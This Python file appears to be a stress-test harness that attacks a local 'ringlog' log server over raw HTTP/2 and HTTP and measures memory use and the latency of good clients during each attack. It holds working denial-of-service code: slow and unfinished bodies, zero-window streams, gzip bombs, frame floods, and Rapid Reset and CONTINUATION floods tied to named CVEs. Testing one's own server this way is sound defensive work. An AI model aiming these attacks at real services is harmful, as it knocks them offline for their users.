"""Clients that break no socket rule and mean no good: raw HTTP/2 frames, many connections, nothing read. Each attack is a function of
a node's address and a number of connections; it returns its sockets, so that what it holds is held until the caller closes them.

As a script it prints what each attack costs a node: memory, and what another client's produce calls take meanwhile; where HTTP is
attacked, also what requests of an HTTP client take. The node has one reactor, on a core of its own. The attacker is a process of its
own (else the other client would wait for its interpreter) that runs on the other cores when nobody else wants them; the other client,
which root may give real-time priority, never waits for it. The first row is a process that only spins: what that costs alone.

    hostile.py BINARY [CONNECTIONS] [ATTACK...]
"""

import contextlib
import errno
import gzip
import http.client
import multiprocessing
import os
import resource
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
UNKNOWN = 0xFA
END_STREAM, END_HEADERS = 1, 4
ACK = 1
INITIAL_WINDOW_SIZE = 4
WINDOW_FIRST, WINDOW_MAX = 65_535, 2**31 - 1
# Descriptors that stay for everything else.
SPARE_FILES = 200
# More connections than a node takes over HTTP.
HTTP_CONNECTIONS = 1_100


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def setting(identifier, value):
    return frame(SETTINGS, payload=struct.pack(">HI", identifier, value))


def _literal(name, value):
    """A header field without indexing (RFC 7541 6.2.2); both lengths below 127."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def headers(stream, path, flags=END_HEADERS, more=()):
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"x")]
    fields += [(b"content-type", b"application/grpc"), (b"te", b"trailers"), *more]
    return frame(HEADERS, flags, stream, b"".join(_literal(*field) for field in fields))


def message(payload, compressed=False):
    return bytes([compressed]) + struct.pack(">I", len(payload)) + payload


def _varint(number):
    return bytes([number]) if number < 128 else bytes([number & 127 | 128]) + _varint(number >> 7)


def _field(number, payload):
    return bytes([number << 3 | 2]) + _varint(len(payload)) + payload


def _produce(topic, *values):
    return _field(1, topic.encode()) + b"".join(_field(3, _field(2, value)) for value in values)


def produce_request(topic, value):
    return message(_produce(topic, value))


def consume_request(topic):
    """From the earliest record of shard 0 on."""
    return message(_field(1, topic.encode()))


PRODUCE, PRODUCE_STREAM = b"/ringlog.v1.Log/Produce", b"/ringlog.v1.Log/ProduceStream"
GET_SERVERS = b"/ringlog.v1.Log/GetServers"
CONSUME, CONSUME_STREAM = b"/ringlog.v1.Log/Consume", b"/ringlog.v1.Log/ConsumeStream"


def connect(address, first=b""):
    """A connection that has said its preface and `first`; None when the node takes no more."""
    host, port = address.rsplit(":", 1)
    connection = socket.create_connection((host, int(port)), timeout=10)
    if not send(connection, PREFACE + (first or frame(SETTINGS))):
        connection.close()
        return None
    return connection


def send(connection, data, seconds=5.0):
    """Sends for at most that long. False when the node has closed the connection."""
    connection.setblocking(False)
    view, until = memoryview(data), time.monotonic() + seconds
    while view and time.monotonic() < until:
        try:
            view = view[connection.send(view):]
        except BlockingIOError:
            time.sleep(0.001)
        except OSError as error:
            if error.errno in (errno.EPIPE, errno.ECONNRESET):
                return False
            raise
    return True


def _many(address, connections, opening, then=lambda connection: None):
    held = []
    for _ in range(connections):
        try:
            connection = connect(address, opening)
        except OSError:
            break
        if connection is not None:
            held.append(connection)
            then(connection)
    return held


def idle(address, connections, topic):
    return _many(address, connections, frame(SETTINGS))


def _open_streams(method, topic, count):
    request = frame(DATA, END_STREAM, 0, consume_request(topic))[9:]
    streams = range(1, 2 * count, 2)
    return b"".join(headers(n, method) + frame(DATA, END_STREAM, n, request) for n in streams)


def _consumers(address, connections, topic, method, opening):
    """A thousand streams on one connection, and some on each of the others."""
    held = _many(address, 1, opening + _open_streams(method, topic, 1000))
    return held + _many(address, connections - 1, opening + _open_streams(method, topic, 8))


def answers_unread(address, connections, topic):
    """Consumers whose window is 0."""
    return _consumers(address, connections, topic, CONSUME_STREAM, setting(INITIAL_WINDOW_SIZE, 0))


def single_answers_unread(address, connections, topic):
    """The same with calls that have one answer each."""
    return _consumers(address, connections, topic, CONSUME, setting(INITIAL_WINDOW_SIZE, 0))


def sockets_unread(address, connections, topic):
    """Consumers whose windows are as wide as can be, and who read nothing from their sockets."""
    return _consumers(address, connections, topic, CONSUME_STREAM, _wide())


def _wide():
    update = frame(WINDOW_UPDATE, payload=struct.pack(">I", WINDOW_MAX - WINDOW_FIRST))
    return setting(INITIAL_WINDOW_SIZE, WINDOW_MAX) + update


def waiting(address, connections, topic):
    """Consumers that wait for the next records, and one batch of small ones, of which each wants the most but not all."""
    latest = message(_field(1, topic.encode()) + b"\x28\x02" + b"\x38" + _varint(500_000) + b"\x40" + _varint(60_000))
    calls = b"".join(headers(n, CONSUME) + frame(DATA, END_STREAM, n, latest) for n in range(1, 17, 2))
    # Two places are left: the good client's, and the producer's.
    held = _many(address, connections - 2, frame(SETTINGS) + calls)
    producer = connect(address, frame(SETTINGS) + headers(1, PRODUCE))
    _Windows(producer).send(1, message(_produce(topic, *[b"w" * 100] * 9_000)), 5.0)
    return [*held, producer]


def _many_over_http(address, connections, opening):
    """Connections without HTTP/2; `opening` sends on each, and knows its number."""
    host, port = address.rsplit(":", 1)
    held = []
    for number in range(connections):
        try:
            held.append(socket.create_connection((host, int(port)), timeout=10))
            opening(number, held[-1])
        except OSError:
            break
    return held


def http_reads(address, connections, topic):
    """Consumers over HTTP that want the most there is, and read nothing."""
    request = f"GET /v1/topics/{topic}/shards/0/records?offset=0&max_bytes=4000000 HTTP/1.1\r\nhost: {address}\r\n\r\n"
    return _many_over_http(address, connections, lambda number, connection: send(connection, request.encode()))


def http_bodies(address, connections, topic):
    """Producers over HTTP: some bring as many of the smallest records as a body may have, the others never end their body."""
    body = b'{"records":[' + b"{}," * 2_700_000 + b"{}]}"
    head = f"POST /v1/topics/{topic}/records HTTP/1.1\r\nhost: {address}\r\ncontent-type: application/json\r\n"
    request = head.encode() + b"content-length: %d\r\n\r\n" % len(body) + body

    def opening(number, connection):
        # So many fill the memory for bodies.
        if number < 8:
            send(connection, request)
        else:
            send(connection, request[: 64 << 10], 0.1)

    return _many_over_http(address, connections, opening)


def _http_read(address, topic, query):
    return f"GET /v1/topics/{topic}/shards/0/records?{query} HTTP/1.1\r\nhost: {address}\r\n\r\n".encode()


def http_views(address, connections, topic):
    """Consumers over HTTP that want much, and first wait for what never comes."""
    request = _http_read(address, topic, f"max_bytes=4194304&min_offset={2**64 - 1}")
    held = _many_over_http(address, connections, lambda number, connection: send(connection, request))
    # As long as they wait.
    time.sleep(5)
    return held


def http_polls(address, connections, topic):
    """Consumers over HTTP that wait for records, on more connections than there may be. There come none."""
    quiet, create = http.client.HTTPConnection(*address.rsplit(":", 1)), {"content-type": "application/json"}
    quiet.request("PUT", "/v1/topics/quiet", b'{"shards": 1}', create)
    quiet.getresponse().read()
    quiet.close()
    request = _http_read(address, "quiet", "position=latest&wait_ms=60000")
    return _all_http_places(address, connections, lambda number, connection: send(connection, request))


def http_trickles(address, connections, topic):
    """Producers over HTTP that send one byte of a body, on more connections than there may be."""
    head = f"POST /v1/topics/{topic}/records HTTP/1.1\r\nhost: {address}\r\ncontent-type: application/json\r\n"
    request = head.encode() + b"content-length: 1000\r\n\r\n{"
    return _all_http_places(address, connections, lambda number, connection: send(connection, request))


def _all_http_places(address, connections, opening):
    """All places, and for some seconds each that becomes free, too."""
    later = 500
    wanted = connections_possible(max(connections, HTTP_CONNECTIONS) + later) - later
    held = _many_over_http(address, wanted, opening)
    for _ in range(later):
        held += _many_over_http(address, 1, opening)
        time.sleep(0.005)
    return held


def acks_unread(address, connections, topic):
    """Producers that send all that their windows allow, and let no acknowledgement come."""
    request = frame(DATA, 0, 1, produce_request(topic, b"x" * 100))
    opening = setting(INITIAL_WINDOW_SIZE, 0) + headers(1, PRODUCE_STREAM)
    return _many(address, connections, opening, lambda connection: send(connection, request * 2000, 0.2))


def acks_in_sockets(address, connections, topic):
    """The same on eight streams of each, with windows as wide as can be and sockets that nobody reads."""
    opening = _wide() + b"".join(headers(n, PRODUCE_STREAM) for n in range(1, 17, 2))
    request = produce_request(topic, b"x")
    part = b"".join(frame(DATA, 0, n, request * 200) for n in range(1, 17, 2))
    held = _many(address, connections, opening, lambda connection: send(connection, part, 0.05))
    for _ in range(10):
        for connection in held:
            send(connection, part, 0.02)
    return held


def _gzipped(address, connections, method, payload, flags=0):
    """As many calls with this compressed message as the first window lets through."""
    request = message(gzip.compress(payload), compressed=True)
    streams = range(1, 2 * (WINDOW_FIRST // len(request)), 2)
    more = [(b"grpc-encoding", b"gzip")]
    calls = b"".join(headers(n, method, more=more) + frame(DATA, flags, n, request) for n in streams)
    return _many(address, connections, frame(SETTINGS) + calls)


def inflated(address, connections, topic):
    """Small messages that are large when they are inflated, far more than there is room for at their shard."""
    value = b"\0" * (1000 << 10)
    return _gzipped(address, connections, PRODUCE_STREAM, _produce(topic, value, value, value))


def many_names(address, connections, topic):
    """Calls that ask for one topic two million times, in a few KiB."""
    return _gzipped(address, connections, GET_SERVERS, _field(1, b"") * 2_000_000, END_STREAM)


class _Windows:
    """What a node lets a connection send."""

    def __init__(self, connection):
        self.connection, self.received = connection, b""
        self.left, self.first = {0: WINDOW_FIRST}, WINDOW_FIRST
        self.ended = set()

    def _read(self):
        with contextlib.suppress(BlockingIOError):
            self.received += self.connection.recv(1 << 20)
        while len(self.received) >= 9:
            end = 9 + int.from_bytes(self.received[:3], "big")
            if len(self.received) < end:
                break
            kind, flags, stream = self.received[3], self.received[4], int.from_bytes(self.received[5:9], "big")
            payload, self.received = self.received[9:end], self.received[end:]
            if kind == WINDOW_UPDATE:
                self.left[stream] = self.left.get(stream, self.first) + int.from_bytes(payload, "big")
            elif kind in (HEADERS, RST_STREAM):
                self.ended.add(stream)
            elif kind == SETTINGS and not flags & ACK:
                # Until it knows that we know, the node holds us to the first windows.
                send(self.connection, frame(SETTINGS, ACK))
                for at in range(0, len(payload), 6):
                    identifier, value = struct.unpack(">HI", payload[at : at + 6])
                    if identifier == INITIAL_WINDOW_SIZE:
                        self.first = value

    def send(self, stream, data, seconds):
        """Sends data on a stream, as far as its windows allow within that time. False if it is answered before all of it is sent."""
        self.connection.setblocking(False)
        until = time.monotonic() + seconds
        while data and time.monotonic() < until:
            self._read()
            if stream in self.ended:
                return False
            size = min(len(data), 16 << 10, self.left[0], self.left.setdefault(stream, self.first))
            if size == 0:
                time.sleep(0.001)
                continue
            if not send(self.connection, frame(DATA, 0, stream, data[:size])):
                return False
            self.left[0] -= size
            self.left[stream] -= size
            data = data[size:]
        return not data


def unfinished(address, connections, topic, streams=32):
    """Messages that lack a byte, the largest that a node lets each connection have: a few fill all the memory that there is for such."""
    streams = range(1, 2 * streams, 2)
    held = _many(address, min(connections, 16), frame(SETTINGS) + b"".join(headers(n, PRODUCE) for n in streams))
    for connection in held:
        windows, size = _Windows(connection), (4 << 20) - 5
        for stream in streams:
            if not windows.send(stream, message(bytes(size))[:-1], 2.0):
                size //= 2
            if size < 32 << 10:
                break
    return held


def announced(address, connections, topic):
    """Messages of 4 MiB of which one byte comes."""
    begun = b"".join(headers(n, PRODUCE) + frame(DATA, 0, n, b"\0\0\x3f\xff\xff\x0a") for n in range(1, 33, 2))
    return _many(address, connections, frame(SETTINGS) + begun)


def tiny_frames(address, connections, topic):
    """A message that comes byte by byte, each in a frame of its own, and never ends."""
    opening = frame(SETTINGS) + headers(1, PRODUCE) + frame(DATA, 0, 1, b"\0\0\x3f\xff\xff")
    part = frame(DATA, 0, 1, b"\x0a") * 4000
    return _many(address, connections, opening, lambda connection: send(connection, part, 0.1))


def large_headers(address, connections, topic):
    """Streams with long headers that go no further."""
    more = [(b"x-%d" % n, b"v" * 120) for n in range(60)]
    begun = b"".join(headers(n, PRODUCE, more=more) for n in range(1, 65, 2))
    return _many(address, connections, frame(SETTINGS) + begun)


def _flood(address, part, seconds=3.0):
    """One connection that sends the same again and again for some seconds, and reads nothing."""
    connection, until = connect(address), time.monotonic() + seconds
    while time.monotonic() < until and send(connection, part, 0.5):
        pass
    return [connection]


def window_updates(address, connections, topic):
    return _flood(address, frame(WINDOW_UPDATE, payload=struct.pack(">I", 1)) * 1000)


def priorities(address, connections, topic):
    return _flood(address, frame(PRIORITY, 0, 1, b"\0\0\0\0\1") * 1000)


def unknown_frames(address, connections, topic):
    return _flood(address, frame(UNKNOWN, payload=b"x") * 1000)


def pings(address, connections, topic):
    return _flood(address, frame(PING, payload=b"12345678") * 1000)


def settings(address, connections, topic):
    return _flood(address, frame(SETTINGS) * 1000)


def resets(address, connections, topic):
    """Calls that are cancelled at once (CVE-2023-44487)."""
    connection, stream, until = connect(address), 1, time.monotonic() + 3
    while time.monotonic() < until:
        part = b""
        for _ in range(200):
            part += headers(stream, CONSUME_STREAM) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            stream += 2
        if not send(connection, part, 0.5):
            break
    return [connection]


def continuations(address, connections, topic):
    """A header block that never ends (CVE-2024-27316)."""
    connection = connect(address, frame(SETTINGS) + headers(1, PRODUCE, flags=0))
    part = frame(CONTINUATION, 0, 1, _literal(b"x", b"y" * 100)) * 100
    until = time.monotonic() + 3
    while time.monotonic() < until and send(connection, part, 0.5):
        pass
    return [connection]


def spins(address, connections, topic):
    """No attack: uses a core for as long as one does."""
    until = time.monotonic() + 5
    while time.monotonic() < until:
        pass


ATTACKS = [
    idle,
    answers_unread,
    single_answers_unread,
    sockets_unread,
    waiting,
    http_reads,
    http_bodies,
    http_views,
    http_polls,
    http_trickles,
    acks_unread,
    acks_in_sockets,
    inflated,
    many_names,
    announced,
    tiny_frames,
    large_headers,
    window_updates,
    priorities,
    unknown_frames,
    pings,
    settings,
    resets,
    continuations,
]


# Those for which a node has nothing to do but to wait.
HTTP_WAITS = [http_views, http_polls, http_trickles]


def is_over_http(attack):
    return attack.__name__.startswith("http_")


def address_for(attack, node):
    """Where a node is attacked."""
    return node.http if is_over_http(attack) else node.address


def rss_mib(pid):
    with open(f"/proc/{pid}/status") as status:
        return next(int(line.split()[1]) for line in status if line.startswith("VmRSS:")) / 1024


class Watch:
    """The largest resident memory of a process while it is watched."""

    def __init__(self, pid):
        self.pid, self.before_mib, self.most_mib = pid, rss_mib(pid), 0.0
        self._end = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self):
        while not self._end.wait(0.02):
            with contextlib.suppress(OSError, StopIteration):
                self.most_mib = max(self.most_mib, rss_mib(self.pid))

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *_):
        self._end.set()
        self._thread.join()

    @property
    def more_mib(self):
        return max(self.most_mib, self.before_mib) - self.before_mib


def connections_possible(wanted):
    """How many of the wanted connections this process has descriptors for."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return min(wanted, hard - SPARE_FILES)


class Attacker:
    """An attack, from `with` to its end, in a process of its own. It keeps its connections until then."""

    def __init__(self, attack, address, connections):
        context = multiprocessing.get_context("spawn")
        self.done, self._end = context.Event(), context.Event()
        self._process = context.Process(target=_attack, args=(attack, address, connections, self.done, self._end))

    def __enter__(self):
        self._process.start()
        return self

    def __exit__(self, *_):
        self._end.set()
        self._process.join()
        if self._process.exitcode != 0:
            raise RuntimeError("the attacker has failed, as it says above")


def _attack(attack, address, connections, done, end):
    # Whoever else wants the core gets it at once.
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    try:
        held = attack(address, connections_possible(connections), "t")
        time.sleep(1)
    finally:
        done.set()
    end.wait()
    del held


def main():
    import tempfile

    os.environ["INTEROP_BIN"] = sys.argv[1]
    connections = connections_possible(int(sys.argv[2]) if len(sys.argv) > 2 else 4096)
    chosen = [attack for attack in ATTACKS if not sys.argv[3:] or attack.__name__ in sys.argv[3:]]
    from conftest import Node, log_pb2, log_pb2_grpc

    core, *others = sorted(os.sched_getaffinity(0))
    os.sched_setaffinity(0, others or {core})
    columns = f"{'MiB more':>9} {'p50 ms':>8} {'p99 ms':>8} {'alone p99':>10} {'refused':>8} {'HTTP p99':>9} {'refused':>8}"
    print(f"{connections} connections\n{'attack':18} {columns}")
    for attack in [spins, *chosen]:
        with tempfile.TemporaryDirectory() as directory:
            node = Node(directory, core).start()
            try:
                with node.channel() as channel:
                    log = log_pb2_grpc.LogStub(channel)
                    fill(log, log_pb2)
                    goes_first()
                    alone, _ = good_calls(log, log_pb2, seconds=3)
                    web = GoodHttp(node.http) if is_over_http(attack) else contextlib.nullcontext()
                    attacker = Attacker(attack, address_for(attack, node), connections)
                    with Watch(node.process.pid) as watch, attacker, web:
                        during, refused = good_calls(log, log_pb2, until=attacker.done)
                row = f"{watch.more_mib:9.0f} {at(during, 50):8.2f} {at(during, 99):8.2f} {at(alone, 99):10.2f} {refused:8}"
                if isinstance(web, GoodHttp):
                    row += f" {at(web.taken, 99):9.1f} {len(web.failed):8}"
                print(f"{attack.__name__:18} {row}", flush=True)
            finally:
                node.kill()


def goes_first():
    """Lets the threads of this process, and not those that they start, run before all others. (A kernel that preempts lazily, as Linux
    does from 6.12 on, lets even an idle-class thread that computes run on until its next tick, 4 ms.)"""
    with contextlib.suppress(PermissionError):
        for thread in os.listdir("/proc/self/task"):
            os.sched_setscheduler(int(thread), os.SCHED_FIFO | os.SCHED_RESET_ON_FORK, os.sched_param(1))


def fill(log, log_pb2, mib=32):
    """Records to consume in shard 0 of topic t."""
    records = [log_pb2.Record(value=b"r" * 1000)] * 1000
    for _ in range(mib):
        log.Produce(log_pb2.ProduceRequest(topic="t", shard=0, records=records), timeout=60)


def good_calls(log, log_pb2, seconds=0.0, until=None):
    """What produce calls one after the other take, in ms, and how many of them failed. At least one is made."""
    import grpc

    end, taken, refused = time.monotonic() + seconds, [], 0
    while True:
        begin = time.monotonic()
        try:
            log.Produce(log_pb2.ProduceRequest(topic="t", shard=0, records=[log_pb2.Record(value=b"good")]), timeout=30)
            taken.append(1000 * (time.monotonic() - begin))
        except grpc.RpcError:
            refused += 1
        if (time.monotonic() >= end) if until is None else until.is_set():
            return taken, refused


class GoodStream:
    """A stock ProduceStream with 16 requests in flight, in a thread of its own, from `with` to its end."""

    IN_FLIGHT = 16

    def __init__(self, log, log_pb2):
        self.log, self.log_pb2 = log, log_pb2
        self.sent = self.acknowledged = 0
        self.error = None
        self._room, self._end = threading.Semaphore(self.IN_FLIGHT), threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _requests(self):
        while not self._end.is_set():
            # Room comes with each acknowledgement; the end is looked for meanwhile.
            if self._room.acquire(timeout=0.1):
                self.sent += 1
                record = self.log_pb2.Record(value=b"good %d" % self.sent)
                yield self.log_pb2.ProduceStreamRequest(topic="t", shard=0, records=[record])

    def _run(self):
        try:
            for _ in self.log.ProduceStream(self._requests()):
                self.acknowledged += 1
                self._room.release()
        except Exception as error:  # whatever it is, the test says it
            self.error = error

    def goes_on(self, seconds=5.0):
        """Whether more than what is in flight is acknowledged in that time."""
        until, wanted = time.monotonic() + seconds, self.acknowledged + self.IN_FLIGHT
        while self.acknowledged <= wanted and self.error is None and time.monotonic() < until:
            time.sleep(0.01)
        return self.acknowledged > wanted

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *_):
        self._end.set()
        self._thread.join(30)


class GoodHttp:
    """Requests over HTTP, one after the other and each on a connection of its own, in a thread, from `with` to its end: a record is
    produced, and the first one is read."""

    def __init__(self, address):
        self.address = address
        # In ms; and what went wrong.
        self.taken, self.failed = [], []
        self._end = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self):
        while not self._end.is_set():
            self._request("POST", "/v1/topics/t/records", b'{"shard": 0, "records": [{"value_text": "good"}]}')
            self._request("GET", "/v1/topics/t/shards/0/records?max_records=1&max_bytes=1000", None)

    def _request(self, method, path, body):
        host, port = self.address.rsplit(":", 1)
        connection, begin = http.client.HTTPConnection(host, int(port), timeout=60), time.monotonic()
        try:
            connection.request(method, path, body, {"content-type": "application/json"})
            answer = connection.getresponse()
            text = answer.read()
            if answer.status == 200:
                self.taken.append(1000 * (time.monotonic() - begin))
            else:
                self.failed.append(f"{method}: {answer.status} {text[:500]}")
        except (OSError, http.client.HTTPException) as error:
            self.failed.append(f"{method}: {error!r}")
        finally:
            connection.close()

    def goes_on(self, seconds=20.0):
        """Whether requests of both kinds are answered in that time."""
        until, wanted = time.monotonic() + seconds, len(self.taken) + 3
        while len(self.taken) < wanted and not self.failed and time.monotonic() < until:
            time.sleep(0.01)
        return len(self.taken) >= wanted

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *_):
        self._end.set()
        self._thread.join(90)


def at(values, percent):
    ordered = sorted(values) or [float("nan")]
    return ordered[min(len(ordered) - 1, len(ordered) * percent // 100)]


if __name__ == "__main__":
    main()
